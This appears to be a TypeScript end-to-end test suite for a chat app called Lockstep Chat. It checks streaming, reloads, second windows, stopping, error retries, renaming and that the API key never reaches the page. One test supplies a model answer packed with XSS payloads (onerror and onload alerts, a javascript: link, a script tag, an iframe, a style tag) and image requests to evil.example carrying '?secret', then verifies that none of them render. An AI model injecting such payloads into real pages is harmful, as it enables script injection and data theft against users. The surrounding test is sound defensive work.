import type { Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import type { Replica } from '../../src/replica/index.ts'
import { type Host, type RunningApp, hosts } from './support/hosts.ts'
import { type ModelServer, numberedText, startModelServer } from './support/model-server.ts'
import { answerShown, ask, expectOnlyPrefixes, untilShown, untilStatus, watchAnswers } from './support/reading.ts'

/** Some 4,000 characters in some 800 chunks: about eight seconds. */
const text = numberedText(420)
const middle = text.length / 3

declare global {
  interface Window {
    lockstep: { chat: Pick<Replica<object>, 'diagnose'> }
  }
}

let model: ModelServer
beforeAll(async () => {
  model = await startModelServer()
})
afterAll(() => model.close())

for (const { name, runtime, start } of hosts) {
  const missing = runtime.reason
  describe.skipIf(missing !== undefined)(`the app in ${name}${missing === undefined ? '' : `: ${missing}`}`, () => {
    tests(start)
  })
}

function tests(start: Host['start']): void {
  let app: RunningApp
  let page: Page
  beforeEach(async () => {
    model.answer({ text })
    app = await start({
      LOCKSTEP_CHAT_BASE_URL: model.baseUrl,
      LOCKSTEP_CHAT_MODEL: 'numbered',
      LOCKSTEP_CHAT_KEY: 'sk-secret-of-the-test',
    })
    page = app.page
    await page.getByLabel('Message').waitFor()
    await watchAnswers(page)
  })
  afterEach(() => app.close())

  test('an answer streams in, whole and in order', async () => {
    await ask(page, 'Tell me')
    await untilStatus(page, 'streaming')
    await untilStatus(page, 'done')
    await expectOnlyPrefixes(page, text, 100)
    expect(await page.getByRole('link', { name: 'Tell me' }).count()).toBe(1)
  })

  test('diagnose(), from the console of a window', async () => {
    const { verdict, sentence, compared } = await page.evaluate(() => window.lockstep.chat.diagnose())
    expect([verdict, sentence]).toEqual([
      'in-step',
      expect.stringMatching(/^In step at revision \d+, and every subscri/),
    ])
    expect(compared?.here).toBe(compared?.there)
  })

  test('going to another tab and back in mid-stream', async () => {
    await ask(page, 'First')
    await untilShown(page, middle)
    await page.getByRole('button', { name: 'New chat' }).click()
    await page.getByText('What is on your mind?').waitFor()
    expect(await page.getByLabel('Answering').count()).toBe(1)
    const { said } = model
    await expect.poll(() => model.said).toBeGreaterThan(said + 200)
    await page.getByRole('link', { name: 'First' }).click()
    await untilShown(page, middle)
    await untilStatus(page, 'done')
    await expectOnlyPrefixes(page, text)
  })

  test('reloading in mid-stream', async () => {
    await ask(page, 'First')
    await untilShown(page, middle)
    await page.reload()
    await untilShown(page, middle)
    expect(await page.locator('[data-status=streaming]').count()).toBe(1)
    await untilStatus(page, 'done')
    await expectOnlyPrefixes(page, text)
  })

  test('opening a second window in mid-stream', async () => {
    await ask(page, 'First')
    await untilShown(page, middle)
    const second = await app.windowOpenedBy(() => page.getByRole('button', { name: 'New window' }).click())
    await watchAnswers(second)
    await untilShown(second, middle)
    expect(await second.locator('[data-status=streaming]').count()).toBe(1)
    await Promise.all([untilStatus(page, 'done'), untilStatus(second, 'done')])
    await expectOnlyPrefixes(page, text)
    await expectOnlyPrefixes(second, text)

    // Each shows what the other does; which tab it shows is its own matter.
    model.answer({ text: 'Short answer' })
    await ask(second, 'Again')
    await page.getByText('Short answer').waitFor()
    await second.getByRole('button', { name: 'New chat' }).click()
    await page.getByRole('link', { name: 'New chat' }).waitFor()
    expect(await answerShown(page)).toBe('Short answer')
  })

  test('stopping ends the request and keeps what has come', async () => {
    const before = model.aborted
    await ask(page, 'First')
    await untilShown(page, 100)
    await page.getByRole('button', { name: 'Stop' }).click()
    await untilStatus(page, 'stopped')
    await expect.poll(() => model.aborted).toBe(before + 1)
    const kept = await answerShown(page)
    expect(kept.length).toBeGreaterThanOrEqual(100)
    expect(text.startsWith(kept)).toBe(true)
  })

  test('closing the tab ends the request', async () => {
    const before = model.aborted
    await ask(page, 'First')
    await untilShown(page, 100)
    await page.keyboard.press('Control+Shift+Backspace')
    await page.getByText('What is on your mind?').waitFor()
    await expect.poll(() => model.aborted).toBe(before + 1)
    expect(await page.getByRole('link', { name: 'First' }).count()).toBe(0)
  })

  test('errors are shown, kept over a reload, and can be retried', async () => {
    model.answer(
      { text: '', http: { status: 429, body: '{"error":{"message":"Too many requests today"}}' } },
      { text, failAt: 300 },
      { text: 'All is well.' },
    )
    await ask(page, 'First')
    await page.getByText('HTTP 429 Too Many Requests: Too many requests today').waitFor()
    await page.reload()
    await page.getByText('HTTP 429 Too Many Requests: Too many requests today').waitFor()
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.getByText('The server reports: The model is overloaded').waitFor()
    expect(await answerShown(page)).toBe(text.slice(0, 300).trim())
    await page.getByRole('button', { name: 'Retry' }).click()
    await page.getByText('All is well.').waitFor()
    await untilStatus(page, 'done')
    expect(await page.locator('[data-role=assistant]').count()).toBe(1)
  })

  test('renaming', async () => {
    model.answer({ text: 'Yes.' })
    await ask(page, 'First')
    await untilStatus(page, 'done')
    await page.keyboard.press('F2')
    await page.getByLabel('Title of this chat').fill('Chosen')
    await page.keyboard.press('Enter')
    await page.getByRole('link', { name: 'Chosen' }).waitFor()
    expect(await page.title()).toBe('Chosen · Lockstep Chat')
  })

  test('an answer cannot act: no script, no foreign request, no markup of its own', async () => {
    const foreign: string[] = []
    page.on('request', (request) => {
      if (request.url().includes('evil.example')) foreign.push(request.url())
    })
    page.on('dialog', (dialog) => {
      foreign.push(dialog.message())
      void dialog.dismiss()
    })
    model.answer({
      text: `<img src="https://evil.example/a.png" onerror="alert(1)">

![picture](https://evil.example/b.png?secret) [run](javascript:alert(2)) <script>alert(3)</script>

<iframe src="https://evil.example/"></iframe><style>body{display:none}</style>

\`\`\`"><img src=x onerror=alert(4)>
<svg onload=alert(5)>
\`\`\`

The end.`,
    })
    await ask(page, 'First')
    await untilStatus(page, 'done')
    const prose = page.locator('.prose')
    await prose.getByText('The end.').waitFor()
    expect(await prose.locator('img, script, iframe, style, [onerror], [onload], [href^=javascript]').count()).toBe(0)
    // It is shown as what it is.
    await prose.getByText('<script>alert(3)</script>').waitFor()
    expect(foreign).toEqual([])
  })

  test('the key goes to the server and to no window', async () => {
    model.answer({ text: 'Yes.' })
    await ask(page, 'First')
    await untilStatus(page, 'done')
    expect(model.requests.at(-1)).toMatchObject({
      authorization: 'Bearer sk-secret-of-the-test',
      body: { model: 'numbered', messages: [{ content: 'First' }] },
    })
    await page.keyboard.press('Control+,')
    await page.getByPlaceholder('A key is set').waitFor()
    expect(await page.content()).not.toContain('sk-secret')
  })
}
